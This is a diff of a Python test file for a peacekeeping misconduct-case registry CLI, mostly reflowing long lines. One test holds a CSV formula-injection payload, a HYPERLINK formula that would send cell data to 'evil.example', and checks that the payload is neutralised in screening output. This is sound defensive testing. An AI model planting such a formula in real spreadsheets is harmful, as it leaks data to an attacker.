@@ -35,19 +35,38 @@ def test_init_is_idempotent(cli_env):
 
 
 def test_case_commands_and_audit(cli_env):
-    r = runner.invoke(app, ["registry", "users", "create", "liaison", "--role", "tcc_liaison", "--tcc", "770",
-                            "--password-stdin"], input="liaison-amber-harbour\n")
+    r = runner.invoke(
+        app,
+        ["registry", "users", "create", "liaison", "--role", "tcc_liaison", "--tcc", "770", "--password-stdin"],
+        input="liaison-amber-harbour\n",
+    )
     assert r.exit_code == 0, r.output
     liaison = json.loads(r.output)["token"]
-    r = run("cases", "create", "--mission", "MINUSTAH", "--tcc", "770", "--category", "sexual_exploitation",
-            "--summary", "food for sex", "--subject", "Sgt. X", "--victim-json", '{"name": "V"}')
+    r = run(
+        "cases",
+        "create",
+        "--mission",
+        "MINUSTAH",
+        "--tcc",
+        "770",
+        "--category",
+        "sexual_exploitation",
+        "--summary",
+        "food for sex",
+        "--subject",
+        "Sgt. X",
+        "--victim-json",
+        '{"name": "V"}',
+    )
     assert r.exit_code == 0, r.output
     cid = json.loads(r.output)["id"]
     r = run("cases", "transition", str(cid), "closed")
     assert r.exit_code == 2 and "allowed next statuses: under_investigation" in r.output
     for st in ("under_investigation", "substantiated", "referred_to_tcc"):
         assert run("cases", "transition", str(cid), st).exit_code == 0
-    r = run("cases", "transition", str(cid), "national_investigation_appointed", "--officer", "Col. Y", "--token", liaison)
+    r = run(
+        "cases", "transition", str(cid), "national_investigation_appointed", "--officer", "Col. Y", "--token", liaison
+    )
     assert r.exit_code == 0, r.output
     shown = json.loads(run("cases", "show", str(cid)).output)
     assert shown["status"] == "national_investigation_appointed" and len(shown["events"]) == 5
@@ -66,10 +85,13 @@ def test_case_commands_and_audit(cli_env):
 
 
 def test_vetting_compliance_training_intake(cli_env):
-    (cli_env / "records.csv").write_text("full_name,date_of_birth,nationality,category\n"
-                                         "Юрий Иванов,1970-05-06,365,trafficking_related\n", encoding="utf-8")
-    (cli_env / "roster.csv").write_text("name,date_of_birth,nationality\nYuri Ivanov,1970-06-05,365\nAnna Berg,1990-01-01,380\n",
-                                        encoding="utf-8")
+    (cli_env / "records.csv").write_text(
+        "full_name,date_of_birth,nationality,category\nЮрий Иванов,1970-05-06,365,trafficking_related\n",
+        encoding="utf-8",
+    )
+    (cli_env / "roster.csv").write_text(
+        "name,date_of_birth,nationality\nYuri Ivanov,1970-06-05,365\nAnna Berg,1990-01-01,380\n", encoding="utf-8"
+    )
     assert "imported 1 records" in run("vetting", "import-records", "records.csv").output
     r = run("vetting", "screen", "roster.csv", "--out", "hits.csv")
     assert r.exit_code == 0 and "1 hits" in r.output, r.output
@@ -84,7 +106,9 @@ def test_vetting_compliance_training_intake(cli_env):
     assert r.exit_code == 0, r.output
     assert "0.75" in run("compliance", "show").output
     assert run("training", "add-module", "THB-1", "THB awareness").exit_code == 0
-    assert run("training", "add-person", "US-1", "A Person", "--nation", "2", "--deployment-year", "2007").exit_code == 0
+    assert (
+        run("training", "add-person", "US-1", "A Person", "--nation", "2", "--deployment-year", "2007").exit_code == 0
+    )
     assert run("training", "complete", "US-1", "THB-1", "--completed-on", "2007-01-02").exit_code == 0
     assert "1.0" in run("training", "show", "--unsuppressed").output
     # The published table (what every door shows by default) blanks the single person.
@@ -98,16 +122,20 @@ def test_vetting_compliance_training_intake(cli_env):
 def test_hits_csv_never_carries_a_formula(cli_env):
     """The issue's example: a record named like a formula lands in hits.csv as inert text."""
     evil = '=HYPERLINK("http://evil.example/?"&A1,"Ahmed Karimov")'
-    (cli_env / "records.csv").write_text("full_name,date_of_birth,nationality,category\n"
-                                         f'"{evil.replace(chr(34), chr(34) * 2)}",1980-01-02,700,sexual_abuse\n',
-                                         encoding="utf-8")
+    (cli_env / "records.csv").write_text(
+        "full_name,date_of_birth,nationality,category\n"
+        f'"{evil.replace(chr(34), chr(34) * 2)}",1980-01-02,700,sexual_abuse\n',
+        encoding="utf-8",
+    )
     # The roster is uploaded text too: here it carries the same formula.
-    (cli_env / "roster.csv").write_text("name,date_of_birth,nationality\n"
-                                        f'"{evil.replace(chr(34), chr(34) * 2)}",1980-01-02,700\n', encoding="utf-8")
+    (cli_env / "roster.csv").write_text(
+        f'name,date_of_birth,nationality\n"{evil.replace(chr(34), chr(34) * 2)}",1980-01-02,700\n', encoding="utf-8"
+    )
     assert "imported 1 records" in run("vetting", "import-records", "records.csv").output
     r = run("vetting", "screen", "roster.csv", "--out", "hits.csv", "--threshold", "0.5")
     assert r.exit_code == 0 and "1 hits" in r.output, r.output
     import csv
+
     with open(cli_env / "hits.csv", newline="", encoding="utf-8") as fh:
         rows = list(csv.DictReader(fh))
     cells = [v for row in rows for v in row.values()]
@@ -122,8 +150,21 @@ def test_audit_checkpoint_verify_and_prove(cli_env):
 
     out = cli_env / "out"
     for i in range(3):
-        assert run("cases", "create", "--mission", "UNMISS", "--tcc", "770", "--category", "sexual_abuse",
-                   "--summary", f"case {i}").exit_code == 0
+        assert (
+            run(
+                "cases",
+                "create",
+                "--mission",
+                "UNMISS",
+                "--tcc",
+                "770",
+                "--category",
+                "sexual_abuse",
+                "--summary",
+                f"case {i}",
+            ).exit_code
+            == 0
+        )
     r = run("audit", "checkpoint", "--out", str(cli_env / "cp.txt"))
     assert r.exit_code == 0 and "checkpoint of 4 entries" in r.output, r.output
     assert (cli_env / "cp.txt").stat().st_mode & 0o777 == 0o600
@@ -145,9 +186,12 @@ def test_audit_checkpoint_verify_and_prove(cli_env):
 
     from peacewatch.registry import audit, merkle
     from peacewatch.registry.service import Registry
+
     reg = Registry(f"sqlite:///{out / 'peacewatch.sqlite'}")
     with reg.session() as s:
-        leaves = [bytes.fromhex(h) for h in s.execute(select(audit.LOG.c.leaf_hash).order_by(audit.LOG.c.seq)).scalars()]
+        leaves = [
+            bytes.fromhex(h) for h in s.execute(select(audit.LOG.c.leaf_hash).order_by(audit.LOG.c.seq)).scalars()
+        ]
         f = merkle.Frontier()
         for h in leaves:
             f.append(h)
